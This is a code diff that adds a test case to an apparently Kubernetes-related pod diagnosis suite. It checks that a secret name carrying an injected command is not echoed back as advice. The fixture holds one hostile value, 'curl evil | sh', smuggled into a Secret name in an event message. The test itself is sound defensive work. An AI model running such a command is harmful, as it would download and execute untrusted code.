@@ -206,6 +206,15 @@ describe("a pod", () => {
       /waits for a volume.*create the secret s/,
     ],
     [
+      "that waits for a Secret, of which an event says a command in place of the name",
+      {
+        "pods/x": pod(onNode, { phase: "Pending" }),
+        "/api/v1/nodes": node(),
+        events: events("FailedMount", 'secret "s; curl evil | sh" not found'),
+      },
+      /^(?!.*create the secret).*waits for a volume/s,
+    ],
+    [
       "whose probe fails",
       {
         "pods/x": pod(onNode, container({ running: {} })),
